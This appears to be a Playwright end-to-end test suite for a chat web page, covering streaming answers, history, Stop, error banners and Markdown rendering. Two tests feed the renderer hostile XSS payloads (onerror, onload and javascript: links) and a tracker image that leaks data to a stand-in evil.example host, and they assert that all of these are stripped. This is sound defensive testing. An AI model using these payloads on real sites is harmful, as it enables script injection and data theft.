// The web chat page as a user drives it in a real browser against `chorus serve`: the model name in the header,
// answers streaming in, multi-turn history sent back, Stop keeping the partial answer, errors shown, New chat.
import { type ChildProcess, spawn } from "node:child_process"
import * as path from "node:path"
import { chromium, type Browser, type Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { repoRoot } from "../support/fixtures.ts"

interface SentMessage {
  readonly role: string
  readonly content: string
}
interface SentBody {
  readonly model?: string
  readonly messages: ReadonlyArray<SentMessage>
  readonly stream: boolean
  readonly max_tokens?: number
  readonly seed?: number
}

const waitForOutput = (read: () => string, pattern: RegExp, ms: number) =>
  new Promise<RegExpExecArray>((resolve, reject) => {
    const started = Date.now()
    const tick = setInterval(() => {
      const match = pattern.exec(read())
      if (match !== null) {
        clearInterval(tick)
        resolve(match)
      } else if (Date.now() - started > ms) {
        clearInterval(tick)
        reject(new Error(`timed out waiting for ${pattern}; output so far:\n${read()}`))
      }
    }, 20)
  })

const assistantTexts = (page: Page) => page.locator('[data-role="assistant"] [data-testid="message-text"]')
// An answer is shown as rendered Markdown; the text the model wrote (sent back as history) is its data-source.
const answerSource = (page: Page) => assistantTexts(page).last().getAttribute("data-source")
const lastAnswerLength = async (page: Page) => (await answerSource(page) ?? "").length
const waitIdle = (page: Page, ms = 60_000) => page.locator('body[data-state="idle"]').waitFor({ state: "attached", timeout: ms })

// Runs in the page (a string: this project's TypeScript has no DOM types): records the length of the text the last
// answer shows rendered at every DOM change while the page says it is streaming.
const recordAnswerLengths = `
  window.lengths = []
  new MutationObserver(() => {
    const answers = document.querySelectorAll('[data-role="assistant"] [data-testid="message-text"]')
    const last = answers[answers.length - 1]
    if (last !== undefined && document.body.dataset.state === "streaming") window.lengths.push((last.dataset.source ?? "").length)
  }).observe(document.querySelector('[data-testid="messages"]'), { subtree: true, childList: true, characterData: true })
`

const setSetting = async (page: Page, testId: string, value: string) => {
  if (await page.getByTestId("settings-panel").isHidden()) await page.getByTestId("settings-toggle").click()
  await page.getByTestId(testId).fill(value)
  await page.getByTestId("settings-close").click()
}

describe("web chat page", () => {
  let server: ChildProcess | undefined
  let serverExit: Promise<number | null> | undefined
  let stderr = ""
  let browser: Browser | undefined
  let page: Page
  let baseUrl = ""
  const sent: Array<SentBody> = []

  beforeAll(async () => {
    const child = spawn(process.execPath, [path.join(repoRoot, "src/cli/main.ts"), "serve", "--port", "0", "--host", "127.0.0.1"], {
      stdio: ["ignore", "pipe", "pipe"]
    })
    server = child
    serverExit = new Promise((resolve) => child.on("exit", (code) => resolve(code)))
    let stdout = ""
    child.stdout.on("data", (d) => (stdout += d))
    child.stderr.on("data", (d) => (stderr += d))
    baseUrl = (await waitForOutput(() => stdout + stderr, /http:\/\/127\.0\.0\.1:\d+/, 240_000))[0]

    browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
    })
    page = await browser.newPage({ viewport: { width: 1100, height: 800 } })
    page.on("request", (request) => {
      if (request.method() === "POST" && new URL(request.url()).pathname === "/v1/chat/completions") {
        sent.push(JSON.parse(request.postData() ?? "null") as SentBody)
      }
    })
  })

  afterAll(async () => {
    await browser?.close()
    if (server !== undefined && server.exitCode === null && server.signalCode === null) server.kill("SIGTERM")
  })

  it("shows the served model's name in the header", async () => {
    const models = await (await fetch(`${baseUrl}/v1/models`)).json() as { data: ReadonlyArray<{ id: string }> }
    const id = models.data[0]?.id
    expect(id).toMatch(/\S/)
    await page.goto(baseUrl)
    await expect.poll(() => page.getByTestId("model-name").textContent()).toBe(id)
    expect(await page.getByTestId("empty-state").isVisible()).toBe(true)
    expect(await page.getByTestId("stop").isHidden()).toBe(true)
  })

  it("streams the answer in, then shows the usage line", async () => {
    await setSetting(page, "max-tokens", "160")
    await setSetting(page, "seed", "7")
    await page.evaluate(recordAnswerLengths)
    await page.getByTestId("input").fill("Hello there, who are you?")
    await page.getByTestId("input").press("Enter")
    await page.getByTestId("message-usage").first().waitFor({ timeout: 60_000 })
    await waitIdle(page)

    const lengths = await page.evaluate<Array<number>>("window.lengths")
    const distinct = new Set(lengths.filter((n) => n > 0))
    expect(distinct.size, `lengths seen while streaming: ${lengths.join(",")}`).toBeGreaterThanOrEqual(2)

    expect(await page.locator('[data-role="user"] [data-testid="message-text"]').allTextContents()).toEqual(["Hello there, who are you?"])
    const answer = await answerSource(page)
    expect(answer).toMatch(/\S/)
    expect(await assistantTexts(page).last().textContent()).toMatch(/\S/)
    expect(Math.max(...distinct)).toBe(answer!.length)
    expect(await page.getByTestId("message-usage").last().textContent()).toMatch(/\d+ tokens · [\d.]+ tokens\/s/)
    expect(await page.getByTestId("input").inputValue()).toBe("")

    expect(sent).toHaveLength(1)
    expect(sent[0]).toMatchObject({ stream: true, max_tokens: 160, seed: 7, messages: [{ role: "user", content: "Hello there, who are you?" }] })
  })

  it("sends the history with the second turn; Shift+Enter adds a newline instead of sending", async () => {
    const firstAnswer = await answerSource(page)
    const input = page.getByTestId("input")
    await input.fill("")
    await input.type("Tell me more")
    await input.press("Shift+Enter")
    await input.type("please.")
    expect(await input.inputValue()).toBe("Tell me more\nplease.")
    expect(sent).toHaveLength(1)
    await page.getByTestId("send").click()
    await expect.poll(() => assistantTexts(page).count()).toBe(2)
    await waitIdle(page)

    expect(sent).toHaveLength(2)
    expect(sent[1]!.messages).toEqual([
      { role: "user", content: "Hello there, who are you?" },
      { role: "assistant", content: firstAnswer },
      { role: "user", content: "Tell me more\nplease." }
    ])
    expect(await assistantTexts(page).last().textContent()).toMatch(/\S/)
    await page.screenshot({ path: "/tmp/chorus-page.png" })
  })

  it("Stop ends a long answer, keeps the partial text, and the page takes input again", async () => {
    await setSetting(page, "max-tokens", "2000")
    await page.getByTestId("input").fill("Tell me a very long story.")
    await page.getByTestId("input").press("Enter")
    await expect.poll(() => lastAnswerLength(page), { timeout: 60_000 }).toBeGreaterThan(20)
    expect(await page.getByTestId("send").isHidden()).toBe(true)
    await page.getByTestId("stop").click()
    await waitIdle(page, 10_000)

    const stoppedAt = await lastAnswerLength(page)
    expect(stoppedAt).toBeGreaterThan(20)
    await page.waitForTimeout(1000)
    expect(await lastAnswerLength(page)).toBe(stoppedAt)
    expect(await page.getByTestId("message-usage").last().textContent()).toMatch(/stopped/)
    expect(await page.getByTestId("stop").isHidden()).toBe(true)
    expect(await page.getByTestId("send").isEnabled()).toBe(true)

    // The next turn goes out at once and carries the partial answer as history.
    const partial = await answerSource(page)
    await setSetting(page, "max-tokens", "8")
    await page.getByTestId("input").fill("Thanks.")
    await page.getByTestId("input").press("Enter")
    await waitIdle(page)
    expect(sent).toHaveLength(4)
    expect(sent[3]!.messages.slice(-2)).toEqual([{ role: "assistant", content: partial }, { role: "user", content: "Thanks." }])
    expect(await assistantTexts(page).count()).toBe(4)
  })

  it("shows the server's error message and gives the text back to the input box", async () => {
    // A value the server must reject before streaming: its error JSON reaches the banner.
    await setSetting(page, "max-tokens", "-5")
    await page.getByTestId("input").fill("This one fails.")
    await page.getByTestId("input").press("Enter")
    await expect.poll(() => page.getByTestId("error").isVisible()).toBe(true)
    expect(await page.getByTestId("error-text").textContent()).toMatch(/^Error 4\d\d.*: .*max_tokens/i)
    expect(await page.getByTestId("input").inputValue()).toBe("This one fails.")
    expect(await assistantTexts(page).count()).toBe(4)

    // A 401 from a server with keys reads as such, with the hint where to fix it.
    await page.route("**/v1/chat/completions", (route) =>
      route.fulfill({
        status: 401,
        contentType: "application/json",
        body: JSON.stringify({ error: { message: "Invalid API key", type: "invalid_request_error", param: null, code: "invalid_api_key" } })
      }))
    await setSetting(page, "max-tokens", "8")
    await setSetting(page, "api-key", "sk-wrong")
    await page.getByTestId("send").click()
    await expect.poll(() => page.getByTestId("error-text").textContent()).toMatch(/^Error 401.*Invalid API key.*API key in Settings/)
    expect(sent.at(-1)).toMatchObject({ max_tokens: 8 })
    await page.unroute("**/v1/chat/completions")
    expect(await page.evaluate(() => localStorage.getItem("chorus.chat.settings"))).toContain("sk-wrong")
    await setSetting(page, "api-key", "")
  })

  it("renders answers as sanitized Markdown; the user's own text stays plain", async () => {
    // The model's words are fixed here so the page can be checked against them: the answer arrives as SSE chunks
    // of 5 characters, the way the server streams it.
    const answer = "Here is **bold** text.\n\n- first\n- second\n\n```js\nconst lt = 1 < 2\n```\n\n" +
      "<img src=x onerror=\"window.pwned = 1\"><script>window.pwned = 2</script> [link](javascript:window.pwned=3)"
    const chunks = answer.match(/[\s\S]{1,5}/g)!
    const sse = chunks
      .map((c, i) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: i === 0 ? { role: "assistant", content: c } : { content: c }, finish_reason: null }] })}\n\n`)
      .join("") + `data: ${JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\ndata: [DONE]\n\n`
    await page.route("**/v1/chat/completions", (route) => route.fulfill({ status: 200, contentType: "text/event-stream", body: sse }))
    const question = "Answer with **Markdown** and <b>HTML</b>, please."
    await page.getByTestId("input").fill(question)
    await page.getByTestId("input").press("Enter")
    await waitIdle(page)
    await page.unroute("**/v1/chat/completions")

    const last = assistantTexts(page).last()
    expect(await answerSource(page)).toBe(answer)
    expect(await last.locator("strong").allTextContents()).toEqual(["bold"])
    expect(await last.locator("ul > li").allTextContents()).toEqual(["first", "second"])
    expect(await last.locator("pre > code").textContent()).toBe("const lt = 1 < 2\n")
    expect(await last.locator("a").count()).toBe(1)
    expect(await last.locator("a").getAttribute("href")).toBeNull()
    expect(await page.locator("[onerror], script:not([src]), [data-testid=messages] img").count()).toBe(0)
    expect(await page.evaluate("window.pwned")).toBeUndefined()

    const user = page.locator('[data-role="user"] [data-testid="message-text"]').last()
    expect(await user.textContent()).toBe(question)
    expect(await user.locator("*").count()).toBe(0)
    expect(sent.at(-1)!.messages.at(-1)).toEqual({ role: "user", content: question })
  })

  it("the Markdown renderer, run in the page on hostile text, keeps formatting and drops everything active", async () => {
    const render = (text: string) => page.evaluate<string>(`import("/markdown.js").then((m) => m.renderMarkdown(${JSON.stringify(text)}))`)
    for (const hostile of [
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)><circle r=1 /></svg>",
      "<iframe src=\"javascript:alert(1)\"></iframe>",
      "[click](javascript:alert(1))",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<div style=\"background:url(javascript:alert(1))\" onclick=\"alert(1)\">x</div>",
      "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
      "![tracker](https://evil.example/leak?data=secret)"
    ]) {
      const html = await render(hostile)
      expect(html, hostile).not.toMatch(/onerror|onload|onclick|javascript:|<script|<iframe|<img|<form|<input|<button|style=|evil\.example\/leak/i)
    }
    expect(await render("*a* and `b` and ~~c~~")).toBe("<p><em>a</em> and <code>b</code> and <del>c</del></p>\n")
    const link = await render("[docs](https://example.org/x)")
    expect(link).toMatch(/^<p><a [^>]*>docs<\/a><\/p>/)
    for (const attribute of ['href="https://example.org/x"', 'target="_blank"', 'rel="noopener noreferrer nofollow"']) expect(link).toContain(attribute)
    // while it streams, an unclosed code fence already renders as code
    expect(await render("```ts\nconst a = 1")).toMatch(/^<pre><code class="language-ts">const a = 1\n?<\/code><\/pre>/)
    expect((await fetch(`${baseUrl}/vendor/marked.esm.js`)).headers.get("content-type")).toMatch(/^text\/javascript/)
    expect((await fetch(`${baseUrl}/vendor/purify.es.mjs`)).status).toBe(200)
  })

  it("New chat clears the conversation", async () => {
    await page.getByTestId("new-chat").click()
    expect(await page.getByTestId("message").count()).toBe(0)
    expect(await page.getByTestId("empty-state").isVisible()).toBe(true)
    expect(await page.getByTestId("error").isHidden()).toBe(true)
    await page.getByTestId("input").fill("Fresh start.")
    await page.getByTestId("input").press("Enter")
    await waitIdle(page)
    expect(sent.at(-1)!.messages).toEqual([{ role: "user", content: "Fresh start." }])
  })

  it("the server exits 0 on SIGTERM", async () => {
    await browser?.close()
    browser = undefined
    server!.kill("SIGTERM")
    expect(await serverExit, stderr).toBe(0)
  })
})
